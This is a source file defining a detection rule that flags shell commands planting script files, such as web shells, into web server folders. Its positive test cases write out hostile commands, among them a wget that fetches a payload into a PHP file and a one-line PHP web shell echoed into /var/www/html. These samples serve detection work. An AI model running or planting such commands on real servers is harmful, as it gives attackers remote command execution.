import { commandRule } from "../../command-rule.js";
import { TEMPORARY, writesTo } from "../../shell/look.js";

/** A script that a web server runs was fetched or written into its folder by a shell command. */
export const webFilePlanted = commandRule({
  id: "web-file-planted",
  alertType: "Picket_WebFilePlanted",
  name: "Program file planted in a web folder",
  severity: "High",
  about: "A script that a web server runs was fetched or written into its folder by a shell command.",
  tactics: ["Persistence"],
  techniques: ["T1505.003"],
  falsePositives: ["Deployments of sites copy whole folders and do not write single files with echo."],
  witness: ["/var/www", "/srv/www", "/usr/share/nginx", "htdocs", "/www/", "public_html", "webapps"],
  sees: (reading) =>
    writesTo(
      reading,
      /^(?:\/var\/www|\/srv\/(?:www|http)|\/usr\/share\/nginx|\/usr\/local\/apache2?\/htdocs|\/www|\/home\/[^/]+\/public_html|\/opt\/\S*\/webapps|\/var\/lib\/tomcat\d*\/webapps)\/\S*\.(?:php\d?|phtml|jsp|jspx|war|asp|aspx|cgi|pl|py)$/,
      ({ name, argv }) =>
        /^(?:echo|printf|tee|curl|wget|base64)$/.test(name) ||
        argv.slice(1, -1).some((word) => TEMPORARY.test(word)),
    ),
  did: "planted a script in a web folder",
  because: "whoever opens its page runs it",
  fires: [
    "wget http://203.0.113.9/s.txt -O /var/www/html/s.php",
    "sh -c echo '<?=`$_GET[0]`?>' > /var/www/html/i.php",
    "cp /tmp/cmd.jsp /opt/tomcat/webapps/cmd.jsp",
    "sh -c base64 -d x > /srv/www/a.phtml",
  ],
  silent: [
    "rsync -a build/ /var/www/html/",
    "cp index.html /var/www/html/index.html",
    "git -C /var/www/html pull",
    "php /var/www/html/artisan serve",
    "cat /var/www/html/index.php",
    "chown -R www-data /var/www/html",
  ],
});
